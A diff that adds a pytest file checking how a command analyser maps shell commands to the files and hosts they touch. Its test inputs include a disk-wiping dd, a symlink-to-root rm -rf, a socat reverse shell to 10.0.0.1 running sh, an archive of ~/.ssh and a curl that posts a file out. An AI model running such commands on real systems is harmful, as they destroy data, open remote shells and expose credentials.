@@ -1,0 +1,44 @@
+"""Programs whose files and hosts do not follow one row."""
+
+from __future__ import annotations
+
+import pytest
+
+
+@pytest.mark.parametrize(("command", "expected"), [
+    ('dd if=/dev/zero of=/dev/sda', ['dd W:/dev/sda']),
+    ('sed -i s/a/b/ a.txt', ['sed R:./a.txt W:./a.txt']),
+    ('sed -i.bak -e s/a/b/ a.txt', ['sed R:./a.txt W:./a.txt']),
+    ('sed s/a/b/ a.txt', ['sed R:./a.txt']),
+    ('perl -pi -e s/a/b/ a.txt', ['perl R:./a.txt W:./a.txt']),
+    ('ln -sf /etc/passwd ~/b', ['ln R:/etc/passwd W:~/b']),
+    ('ln -s ~/.ssh x; cat x/config', ['ln R:~/.ssh W:./x', 'cat R:~/.ssh/config']),
+    ('ln -s / r && rm -rf r', ['ln R:/ W:./r', 'rm D:./r']),
+    ('ln -s / r && rm -rf r/', ['ln R:/ W:./r', 'rm D:/']),
+    ('rsync -a --delete src/ ~/dst', ['rsync R:./src W:~/dst D:~/dst']),
+    ('rsync -a src/ host:dst/', ['rsync R:./src H:host']),
+    ('rsync host:src/ ~/dst', ['rsync W:~/dst H:host']),
+    ('tar czf out.tgz src', ['tar R:./src W:./out.tgz']),
+    ('tar xzf a.tgz -C /', ['tar R:./a.tgz W:/']),
+    ('tar -C ~ -cf - .ssh', ['tar R:~/.ssh']),
+    ('tar --remove-files -cf all.tar data', ['tar R:./data W:./all.tar D:./data']),
+    ('unzip -o a.zip -d ~/x', ['unzip R:./a.zip W:~/x']),
+    ('gzip a', ['gzip R:./a W:./a']),
+    ('gzip -c a', ['gzip R:./a']),
+    ('find ~/x -delete', ['find D:~/x']),
+    ("find . -name '*.pyc' -delete", ['find D:./*.pyc']),
+    ('find ~ -fprint out.txt', ['find W:./out.txt']),
+    ('curl -d @a.json https://a.example', ['curl R:./a.json H:a.example']),
+    ('curl --data-raw @a.json https://a.example', ['curl H:a.example']),
+    ('curl -O https://a.example/f.tgz', ['curl W:./f.tgz H:a.example']),
+    ('wget -P ~/dl https://a.example/f.tgz', ['wget W:~/dl W:~/dl/f.tgz H:a.example']),
+    ('socat TCP:10.0.0.1:4444 EXEC:sh', ['socat H:10.0.0.1', 'sh']),
+    ('openssl s_client -connect a.example:443', ['openssl H:a.example']),
+    ('docker run -v ~/.ssh:/k:ro alpine', ['docker R:~/.ssh']),
+    ('docker run --mount type=bind,src=/etc,dst=/e alpine', ['docker W:/etc']),
+    ('docker cp web:/x ~/x', ['docker W:~/x']),
+    ('scp a.txt host:', ['scp R:./a.txt H:host']),
+    ('scp host:a.txt .', ['scp W:. H:host']),
+])
+def test_files_and_hosts(brief, command, expected):
+    assert brief(command) == expected
